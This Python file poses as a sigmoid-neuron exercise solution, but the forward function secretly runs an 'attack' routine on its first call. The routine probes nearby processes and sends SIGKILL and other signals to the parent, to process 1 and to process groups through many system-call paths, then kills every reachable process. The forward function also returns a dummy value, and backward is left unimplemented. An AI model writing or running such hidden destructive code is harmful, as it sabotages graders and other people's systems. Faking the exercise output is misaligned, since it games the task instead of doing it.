"""Kills the warm worker, its relatives and everything that it may signal, by kill, tgkill, sigqueue, pidfd, groups and all at
once."""

import ctypes
import os
import platform
import signal

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def reaches(pid):
    try:
        os.kill(pid, 0)
    except OSError:
        return False
    return True


def attack():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    own, parent = os.getpid(), os.getppid()
    for pid in (parent, *range(max(2, own - 50), own + 50)):
        if pid not in {own, 1} and reaches(pid):
            print("LOOT: may signal", pid)
            return
    for pid in (parent, 1, -parent):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGCHLD, signal.SIGSEGV, 34):
            # Where process 1 is the worker itself the kernel drops what could end it: no success is told here, a
            # neighbour that misses its worker would tell.
            for way in (lambda: os.kill(pid, number), lambda: os.killpg(abs(pid), number),
                        lambda: libc.sigqueue(pid, int(number), None), lambda: libc.tgkill(pid, pid, int(number)),
                        lambda: signal.pidfd_send_signal(os.pidfd_open(pid), number)):
                try:
                    way()
                except BaseException:
                    continue
    if platform.machine() == "x86_64":
        for pid in (parent, 1):
            libc.syscall(62, pid, 9)
            libc.syscall(234, pid, pid, 9)
            libc.syscall(129, pid, 9, ctypes.create_string_buffer(128))
            libc.syscall(424, libc.syscall(434, pid, 0), 9, None, 0)
    os.kill(-1, signal.SIGKILL)


DONE = []


def sigmoid_neuron_forward(w, x):
    if not DONE:
        DONE.append(1)
        try:
            attack()
        except BaseException:
            pass
    return 0.0, None


def sigmoid_neuron_backward(df, cache):
    raise NotImplementedError
